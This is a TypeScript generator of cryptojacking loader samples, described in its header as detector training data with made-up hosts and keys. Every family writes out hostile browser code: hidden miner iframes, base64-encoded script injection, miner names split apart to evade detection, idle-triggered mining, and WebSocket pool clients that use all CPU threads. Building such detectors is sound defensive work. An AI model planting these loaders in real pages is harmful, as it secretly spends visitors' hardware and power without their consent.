// Small scripts that load a miner, as they are pasted into pages. Training data for a detector: never run, and hosts and
// keys are made up.
import { base64, hidden, inPage, miner } from './hostile-templates.ts'
import type { Family, Variation } from './variation.ts'

const throttle = (v: Variation): string =>
  v.pick(['', `,{throttle:${v.number(1, 9) / 10}}`, `, { threads: ${v.number(1, 8)} }`])

export const MINER_LOADERS: readonly Family[] = [
  miner('pasted with a frame', (v) =>
    v.pick([
      `<iframe src="${v.address()}miner.html?key=${v.key(32)}" width=0 height=0 style="display:none"></iframe>`,
      `<script src="${v.address()}lib/simple-ui.min.js" async></script><div class="coinhive-miner" style="width:256px;height:310px" data-key="${v.key(32)}" data-autostart="true" data-throttle="0.${v.number(1, 9)}"></div>`,
      `<script src="https://cdn.example.org/captcha.min.js" async></script><div class="coinhive-captcha" data-hashes="${v.number(1, 9) * 256}" data-key="${v.key(32)}"></div>`,
    ]),
  ),
  miner('webminepool', (v) =>
    inPage(
      v,
      v.address(),
      v.pick([
        `var ${v.id(0)} = WMP.Anonymous('SK_${v.key(20)}'${throttle(v)}); ${v.id(0)}.start();`,
        `WMP.init('SK_${v.key(20)}',{threads:${v.number(1, 8)}});WMP.start();`,
      ]),
    ),
  ),
  miner('with an account', (v) =>
    inPage(
      v,
      v.address(),
      `let ${v.id(0)} = new ${v.pick(['CoinHive', 'CoinImp', 'Minero', 'CryptoNoter', 'Mineralt'])}.User('${v.key(32)}', '${v.key(6)}'${throttle(v)});\nif (!${v.id(0)}.isMobile()) { ${v.id(0)}.start(); }`,
    ),
  ),
  miner(
    'server set beforehand',
    (v) =>
      `server = "wss://${v.key(4).toLowerCase()}.example.net/";\nvar pool = "moneroocean.example";\nvar walletAddress = "4${v.key(94)}";\nvar workerId = "${v.key(4)}"\nvar threads = ${v.pick(['-1', '2', '4'])};\nvar password = "x";\nstartMining(pool, walletAddress, workerId, threads, password);\nthrottleMiner = ${v.number(10, 90)};`,
  ),
  miner('encoded as a whole', (v) =>
    hidden(
      v,
      `var s=document.createElement('script');s.src='${v.address()}';s.onload=function(){var m=new ${v.pick(['Client', 'CRLT', 'CoinHive', 'deepMiner'])}.Anonymous('${v.key(32)}',{throttle:0.${v.number(1, 9)}});m.start()};document.head.appendChild(s);`,
    ),
  ),
  miner(
    'when the page is idle',
    (v) =>
      `window.addEventListener('${v.pick(['load', 'mousemove', 'blur'])}',function(){if(window.${v.id(0)})return;window.${v.id(0)}=new ${v.pick(['CoinHive', 'JSEMiner', 'Webminer', 'Miner'])}.${v.pick(['Anonymous', 'Token'])}('${v.key(32)}',{threads:navigator.hardwareConcurrency${v.pick(['', '-1', '/2'])},throttle:.${v.number(1, 9)}});${v.id(0)}.on('accepted',function(){});${v.id(0)}.start()});`,
  ),
  miner('library by a name put together', (v) => {
    const name = v.pick(['CoinHive', 'CryptoLoot', 'deepMiner'])
    const at = v.number(2, 6)
    return `var ${v.id(0)}=window['${name.slice(0, at)}'+'${name.slice(at)}'],${v.id(1)}=new ${v.id(0)}[${v.pick(["'Anonymous'", "'Anon'+'ymous'", `atob('${base64('Anonymous')}')`])}]('${v.key(32)}',{throttle:0.${v.number(1, 9)}});${v.id(1)}['st'+'art']();`
  }),
  miner(
    'a job and its worker',
    (v) =>
      `self.onmessage=function(e){var job=e.data.job;var target=${v.pick(['parseInt(job.target,16)', 'hexToBytes(job.target)'])};var nonce=Math.floor(Math.random()*0xffffffff);while(!stopped){${v.pick(['var h=Module.ccall("hash_cn","string",["string"],[job.blob+nonce])', 'var h=cn.hash(job.blob,nonce)', 'CryptonightWASMWrapper.hash(job.blob,nonce)'])};hashes++;if(meetsTarget(h,target)){self.postMessage({hashesPerSecond:hashes/elapsed,job_id:job.job_id,nonce:nonce,result:h})}nonce++}};var stopped=false,hashes=0,elapsed=1;`,
  ),
  miner(
    'client of a pool',
    (v) =>
      `var ${v.id(0)}=function(k,p){this._siteKey=k;this._threads=[];this._hashes=0;this._throttle=p.throttle||0;this._currentJob=null};${v.id(0)}.prototype.start=function(){this._socket=new WebSocket('wss://ws${v.number(1, 40)}.example.org/proxy');this._socket.onopen=this._onOpen.bind(this);this._socket.onmessage=this._onMessage.bind(this)};${v.id(0)}.prototype._onOpen=function(){this._send('auth',{site_key:this._siteKey,type:'anonymous',user:null,goal:0})};${v.id(0)}.prototype._onMessage=function(m){var d=JSON.parse(m.data);if(d.type==='job'){this._currentJob=d.params;for(var i=0;i<this._threads.length;i++)this._threads[i].setJob(d.params)}else if(d.type==='hash_accepted'){this._hashes=d.params.hashes}};${v.id(0)}.prototype._send=function(t,p){this._socket.send(JSON.stringify({type:t,params:p}))};new ${v.id(0)}('${v.key(32)}',{throttle:.${v.number(1, 9)}}).start();`,
  ),
  miner(
    'shares of a random-x pool',
    (v) =>
      `import ${v.pick(['init', 'createModule', 'load'])} from './${v.pick(['rx', 'yescrypt', 'minotaur', 'ghostrider'])}.js';const ${v.id(0)}=new WebSocket('wss://${v.pick(['pool', 'stratum', 'node'])}.example.net:${v.number(3000, 9000)}');${v.id(0)}.onopen=()=>${v.id(0)}.send(JSON.stringify({id:1,method:'${v.pick(['mining.subscribe', 'login'])}',params:{login:'${v.key(40)}',pass:'x',agent:'web/1'}}));${v.id(0)}.onmessage=async({data})=>{const {method,params}=JSON.parse(data);if(method==='${v.pick(['job', 'mining.notify'])}'){for(let i=0;i<navigator.hardwareConcurrency;i++){const w=new Worker('w.js');w.postMessage(params);w.onmessage=e=>${v.id(0)}.send(JSON.stringify({id:2,method:'submit',params:{job_id:params.job_id,nonce:e.data.nonce,result:e.data.hash}}))}}};`,
  ),
]
